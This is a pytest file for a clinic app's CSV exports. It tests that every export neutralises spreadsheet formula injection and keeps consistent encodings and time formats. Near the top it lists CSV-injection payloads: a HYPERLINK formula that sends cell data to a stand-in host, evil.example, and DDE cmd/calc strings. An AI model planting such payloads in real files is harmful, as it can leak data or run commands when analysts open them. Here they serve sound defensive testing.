"""Every CSV Dorsi writes is safe to open in a spreadsheet and still reads as data.

Each endpoint is fed a payload the patient controls (their self-test notes, their browser's
User-Agent, their session comments) and its file is read back with pandas, the way a clinic's
analyst would read it. And every file keeps the writer's conventions: a byte-order mark (Excel
reads accented names), one format per time column that pandas parses without being told.
"""

import io
import re
import uuid
import zipfile
from datetime import date, datetime, time
from pathlib import Path
from zoneinfo import ZoneInfo

import pandas as pd
import pytest
from django.utils import timezone

from assessments import services as assessment_services
from clinic.csv_writer import BYTE_ORDER_MARK, csv_bytes, csv_cell
from exercises import services as exercise_services
from records.csv_columns import COLUMNS
from tests.conftest import ROOT, project_sources
from tests.factories import record_knee_to_wall
from tests.records import test_data_rights

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Open my video")'
PAYLOADS = [
    HYPERLINK,
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "-",
]


def _read(content: bytes) -> pd.DataFrame:
    # dtype=str: what the file holds, character for character (no number guessing).
    return pd.read_csv(io.BytesIO(content), dtype=str, keep_default_na=False, encoding="utf-8-sig")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(payload):
    assert csv_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "value",
    ["+13125550100", "-2.5", "+4", "-0.75", "1e3", "-1.5E-2", "Anders", "a=b", "", "12 cm"],
)
def test_numbers_phone_numbers_and_plain_text_are_written_as_they_are(value):
    assert csv_cell(value) == value


def test_a_moment_is_written_in_utc_to_the_second_and_a_naive_one_is_refused():
    chicago = ZoneInfo("America/Chicago")
    summer = datetime(2026, 7, 1, 9, 5, 7, 123456, tzinfo=chicago)
    assert csv_cell(summer) == "2026-07-01T14:05:07Z"
    assert csv_cell(datetime(2026, 1, 1, 9, 5, 7, tzinfo=chicago)) == "2026-01-01T15:05:07Z"
    assert csv_cell(date(2026, 3, 8)) == "2026-03-08"
    assert csv_cell(time(7, 30)) == "07:30:00"
    with pytest.raises(ValueError, match="aware datetime"):
        csv_cell(datetime(2026, 1, 1, 9, 5))  # noqa: DTZ001 (the point: a naive one)


def test_a_file_reads_back_in_pandas_with_numbers_as_numbers_and_phones_as_phones():
    content = csv_bytes(
        ["phone", "delta_cm", "notes"],
        [["+13125550100", -2.5, HYPERLINK], ["+4915112345678", "1.9", "fine"]],
    )
    as_text = _read(content)
    assert list(as_text["phone"]) == ["+13125550100", "+4915112345678"]
    assert as_text["notes"][0] == "'" + HYPERLINK
    guessed = pd.read_csv(io.BytesIO(content), encoding="utf-8-sig")
    assert guessed["delta_cm"].dtype.kind == "f"
    assert list(guessed["delta_cm"]) == [-2.5, 1.9]
    assert list(guessed.columns) == ["phone", "delta_cm", "notes"]  # no byte-order mark left


def test_no_module_writes_csv_but_the_one_writer():
    """The class of fault goes away only if nothing else can write a cell unchecked."""
    allowed = ROOT / "clinic" / "csv_writer.py"
    offenders = [
        str(path.relative_to(ROOT))
        for path in project_sources()
        if path != allowed
        and re.search(r"^\s*(import csv|from csv import)", path.read_text(), re.M)
    ]
    assert offenders == []


# --- Every CSV endpoint, with a payload the patient controls ----------------------------------


def test_the_knee_to_wall_csv_neutralises_a_patients_own_notes(client_as, patient):
    assessment_services.self_test_record(
        patient=patient,
        unit="cm",
        data={
            "measured_at": timezone.now(),
            "left_distance": "9.5",
            "right_distance": "11",
            "notes": HYPERLINK,
        },
    )
    response = client_as("therapist").get(f"/patients/{patient.pk}/knee-to-wall.csv")
    assert response.status_code == 200
    rows = _read(response.content)
    assert rows["notes"][0] == "'" + HYPERLINK
    numbers = pd.read_csv(io.BytesIO(response.content), encoding="utf-8-sig")
    assert list(numbers["left_cm"]) == [9.5]
    assert list(numbers["right_cm"]) == [11.0]


def test_the_audit_export_neutralises_a_user_agent_the_patient_chose(client_as, patient):
    saved = client_as("patient").post(
        "/me/self-test/",
        {
            "unit": "cm",
            "measured_at": timezone.localtime(timezone=patient.clinic.zone).strftime(
                "%Y-%m-%dT%H:%M"
            ),
            "left_distance": "9",
            "right_distance": "9",
        },
        HTTP_USER_AGENT=HYPERLINK,
    )
    assert saved.status_code == 302, saved.context["form"].errors
    response = client_as("clinic_admin").get("/audit/export.csv")
    assert response.status_code == 200
    rows = _read(b"".join(response.streaming_content))
    agents = set(rows["user_agent"])
    assert "'" + HYPERLINK in agents
    assert HYPERLINK not in agents
    assert not any(cell.startswith(("=", "+", "@")) for column in rows for cell in rows[column])


@pytest.mark.parametrize("who", ["patient", "therapist"])
def test_the_data_rights_zip_neutralises_text_and_keeps_phone_numbers(
    client_as, patient, prescribed, who
):
    patient.phone = "+13125550100"
    patient.save()
    exercise_services.session_log_record(
        patient=patient,
        version=prescribed,
        client_token=uuid.uuid4(),
        statuses={item.pk: "done" for item in prescribed.items.all()},
        comment=HYPERLINK,
    )
    url = "/me/export.zip" if who == "patient" else f"/patients/{patient.pk}/export.zip"
    response = client_as(who).get(url)
    assert response.status_code == 200, response
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        files = {
            Path(name).name: _read(archive.read(name))
            for name in archive.namelist()
            if name.endswith(".csv")
        }
    assert files["patient.csv"]["phone"][0] == "+13125550100"
    assert files["sessions.csv"]["comment"][0] == "'" + HYPERLINK


# --- One convention for every file -------------------------------------------------------------

# A patient with some of everything: tests, a routine and a logged session, an appointment and
# its reminders, a waitlist entry, a link and a calendar feed.
history = test_data_rights.history

MOMENT = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ")
DATE = re.compile(r"\d{4}-\d\d-\d\d")
TIME_OF_DAY = re.compile(r"\d\d:\d\d:\d\d")
LOOKS_LIKE_TIME = re.compile(r"\d{4}-\d\d-\d\d|\d\d:\d\d")


@pytest.fixture
def every_csv(client_as, history, therapist) -> dict[str, bytes]:
    """Each CSV file Dorsi writes, for a patient with an accented name and tests on both sides
    of a DST change (the clinic is in Chicago), with times stored to the microsecond."""
    history.first_name, history.last_name = "Zoë", "Núñez-Ångström"
    history.save()
    therapist.last_name = "Okafor-Sánchez"
    therapist.save()
    record_knee_to_wall(history, therapist, left="8", right="9", days_ago=200)
    files = {
        "knee-to-wall.csv": client_as("therapist")
        .get(f"/patients/{history.pk}/knee-to-wall.csv")
        .content,
        "audit export.csv": b"".join(
            client_as("clinic_admin").get("/audit/export.csv").streaming_content
        ),
    }
    archive = client_as("therapist").get(f"/patients/{history.pk}/export.zip").content
    with zipfile.ZipFile(io.BytesIO(archive)) as zipped:
        files.update({Path(name).name: zipped.read(name) for name in zipped.namelist()})
    return files


def _time_columns(frame: pd.DataFrame) -> dict[str, re.Pattern]:
    """The columns holding times, each with the one format all its cells have."""
    found = {}
    for column in frame:
        cells = [cell for cell in frame[column] if cell]
        if not cells or not all(LOOKS_LIKE_TIME.match(cell) for cell in cells):
            continue
        matching = [p for p in (MOMENT, DATE, TIME_OF_DAY) if p.fullmatch(cells[0])]
        assert len(matching) == 1, f"{column}: {cells[0]!r} is in none of the export formats"
        pattern = matching[0]
        assert all(pattern.fullmatch(cell) for cell in cells), (column, cells)
        found[column] = pattern
    return found


def test_every_csv_starts_with_a_byte_order_mark_and_keeps_accents(every_csv):
    """Issue 14 §4: the knee-to-wall CSV had no BOM while the data-rights files did; Excel on
    Windows then misreads accented names. The writer adds it, for every file."""
    assert len(every_csv) == 2 + len(COLUMNS)
    for name, content in every_csv.items():
        assert content.startswith(BYTE_ORDER_MARK.encode()), name
        frame = pd.read_csv(io.BytesIO(content), dtype=str, keep_default_na=False, encoding="utf-8")
        assert not frame.columns[0].startswith(BYTE_ORDER_MARK), name
    patient = pd.read_csv(io.BytesIO(every_csv["patient.csv"]), encoding="utf-8")
    assert (patient["first_name"][0], patient["last_name"][0]) == ("Zoë", "Núñez-Ångström")
    tests = pd.read_csv(io.BytesIO(every_csv["knee-to-wall.csv"]), encoding="utf-8")
    assert set(tests["measured_by"]) == {"Maya Okafor-Sánchez"}
    audit = pd.read_csv(io.BytesIO(every_csv["audit export.csv"]), encoding="utf-8")
    assert "Maya Okafor-Sánchez" in set(audit["actor_label"])


def test_every_time_column_has_one_format_pandas_parses_unaided(every_csv):
    """Issue 14 §4: measured_at mixed precisions and UTC offsets (DST), so pandas needed
    format='ISO8601'. Now a moment is UTC to the second, a date a date."""
    moments = set()
    for name, content in every_csv.items():
        frame = pd.read_csv(io.BytesIO(content), dtype=str, keep_default_na=False)
        columns = _time_columns(frame)
        # Every column named as a moment is one (the fixture fills enough of them).
        for column in frame:
            if (column == "at" or column.endswith("_at")) and any(frame[column]):
                assert columns.get(column) is MOMENT, (name, column)
        for column, pattern in columns.items():
            if pattern is TIME_OF_DAY:
                continue
            parsed = pd.to_datetime(frame[column].replace("", None))
            if pattern is MOMENT:
                assert str(parsed.dt.tz) == "UTC", (name, column)
                moments.add(f"{name}:{column}")
            assert parsed.notna().sum() == sum(1 for cell in frame[column] if cell)
    assert {
        "knee-to-wall.csv:measured_at",
        "assessments.csv:measured_at",
        "audit export.csv:at",
        "patient.csv:registered_at",
    } <= moments


def test_the_zip_says_what_every_column_means(every_csv):
    dictionary = pd.read_csv(io.BytesIO(every_csv["columns.csv"]), dtype=str)
    described = {(row.file, row.column) for row in dictionary.itertuples()}
    assert dictionary["meaning"].str.len().min() > 3
    for name in COLUMNS:
        header = list(pd.read_csv(io.BytesIO(every_csv[name]), dtype=str).columns)
        assert header == list(COLUMNS[name]), name
        assert {(name, column) for column in header} <= described
